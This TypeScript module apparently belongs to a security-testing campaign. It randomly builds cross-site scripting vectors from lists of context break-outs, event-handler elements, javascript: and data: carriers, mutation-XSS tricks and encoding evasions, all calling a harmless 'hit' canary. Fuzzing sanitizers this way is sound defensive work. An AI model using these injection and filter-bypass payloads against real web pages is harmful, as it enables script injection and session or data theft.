import { oneOf } from '../campaign.js';

type Random = () => number;

/** Ways to call the page's `hit`. */
const calls = [
  'hit(1)',
  'hit`1`',
  'window.hit(1)',
  "top['hit'](1)",
  'self[/hi/.source+/t/.source](1)',
  "eval('hit(1)')",
  "eval(atob('aGl0KDEp'))",
  "setTimeout('hit(1)')",
  "new Function('hit(1)')()",
  '[1].find(hit)',
  'alert(1)',
  'parent.hit(1)',
  "import('data:text/javascript,hit(1)')",
  'hi\\u0074(1)',
];

/** What may have to be closed first, so that the vector is read as mark-up or script. */
const openings = [
  '',
  '',
  '">',
  "'>",
  '`>',
  '-->',
  '--!>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</svg>',
  ']]>',
];
const closings = ['', '', '<!--', '//', '<x "', "<x '", '<![CDATA[', '</', '&lt;', '`'];

const spaces = [' ', '/', '\t', '\n', '\f', '\r', ' / ', '/\u0000/', '\u3000 '];
const quotes = ['', '"', "'"];

/** An element, and a handler that runs by itself or when a reader does ordinary things. */
const handlers: readonly (readonly [element: string, handler: string])[] = [
  ['img src=x', 'onerror'],
  ['img src=/cp-is-banner.js', 'onerror'],
  ['image href=x', 'onerror'],
  ['svg', 'onload'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x', 'onbegin'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['iframe', 'onload'],
  ['iframe src=/', 'onload'],
  ['object data=x', 'onerror'],
  ['embed src=/', 'onload'],
  ['video src=x', 'onerror'],
  ['video><source', 'onerror'],
  ['audio src=x', 'onerror'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['a tabindex=1 autofocus', 'onfocus'],
  ['div contenteditable autofocus', 'onfocusin'],
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['style', 'onload'],
  ['link rel=stylesheet href=/', 'onload'],
  ['script src=x', 'onerror'],
  ['x style=animation-name:x', 'onanimationstart'],
  ['p', 'onpointerenter'],
  ['p', 'onclick'],
  ['dialog open', 'ontoggle'],
  ['cp-is-banner', 'oncp-is-change'],
  ['slot', 'onslotchange'],
];

/** Elements that carry script without a handler. */
const carriers: readonly ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<script type=module>${code}</script>`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<script src="data:text/javascript,${code}"></script>`,
  (code) => `<iframe srcdoc="<script>parent.${code}</script>">`,
  (code) => `<iframe src="javascript:${code}">`,
  (code) => `<object data="javascript:${code}">`,
  (code) => `<embed src="javascript:${code}">`,
  (code) => `<a href="javascript:${code}">x</a>`,
  (code) => `<a href=" \u0001java\tscript:${code}">x</a>`,
  (code) => `<math><a href="javascript:${code}">x</a></math>`,
  (code) => `<svg><a xlink:href="javascript:${code}"><text>x</text></a></svg>`,
  (code) => `<form action="javascript:${code}"><button>x</button></form>`,
  (code) => `<button formaction="javascript:${code}">x</button>`,
  (code) => `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  (code) => `<base href="javascript:${code}//">`,
  (code) => `<link rel=modulepreload href="data:text/javascript,${code}">`,
  (code) => `<template shadowrootmode=open><script>${code}</script></template>`,
  (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  (code) => `<svg><style><img src=x onerror=${code}></style></svg>`,
  (code) => `<math><mtext><table><mglyph><style><img src=x onerror=${code}>`,
  (code) => `javascript:${code}`,
  (code) => `data:text/html,<script>${code}</script>`,
  (code) => `tel:0'onclick=${code}//`,
  (code) => `" onmouseover="${code}" x="`,
  (code) => `' autofocus onfocus='${code}`,
  (code) => `\${${code}}`,
  (code) => `{{constructor.constructor('${code}')()}}`,
  (code) => `';${code};'`,
  (code) => `\\";${code}//`,
];

const everyOther = (text: string): string =>
  Array.from(text, (letter, at) => (at % 2 === 0 ? letter.toUpperCase() : letter)).join('');
const entity = (text: string, write: (code: number) => string): string =>
  text.replace(/[<>"'=:()]/g, (letter) => write(letter.charCodeAt(0)));

/** Ways to write a vector that something on the way might decode. */
const encodings: readonly ((text: string) => string)[] = [
  ...Array.from({ length: 6 }, () => (text: string) => text),
  (text) => text.replace(/<(\w+)/g, (tag) => everyOther(tag)),
  (text) => text.replace(/\bon\w+=/g, everyOther),
  (text) => entity(text, (code) => `&#${code};`),
  (text) => entity(text, (code) => `&#x${code.toString(16)};`),
  (text) => entity(text, (code) => `&#${String(code).padStart(9, '0')}`),
  (text) => entity(text, (code) => `\\u${code.toString(16).padStart(4, '0')}`),
  (text) => entity(text, (code) => `\\x${code.toString(16)}`),
  (text) => entity(text, (code) => `%${code.toString(16)}`),
  (text) => entity(text, (code) => `%25${code.toString(16)}`),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (text) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
  (text) => text.replaceAll('<', '<\u0000'),
  (text) => text.replaceAll('<', '<<'),
  (text) => text.replace(/<(\w)(\w+)/g, '<$1\u0000$2'),
  (text) => text.replace(/script/g, 'scr<script>ipt'),
  (text) => text.replace(/>$/, ''),
  (text) => `<!--${text}`,
  (text) => `<![CDATA[${text}]]>`,
];

/** One vector: an element with a handler or with a script in it, broken out of some context, in some encoding. */
export function vector(random: Random): string {
  const call = oneOf(random, calls);
  const core = random() < 0.6 ? withHandler(random, call) : oneOf(random, carriers)(call);
  return oneOf(random, encodings)(oneOf(random, openings) + core + oneOf(random, closings));
}

function withHandler(random: Random, call: string): string {
  const [element, handler] = oneOf(random, handlers);
  const quote = oneOf(random, quotes);
  const space = oneOf(random, spaces);
  return `<${element.replaceAll(' ', space)}${space}${handler}=${quote}${call}${quote}>`;
}
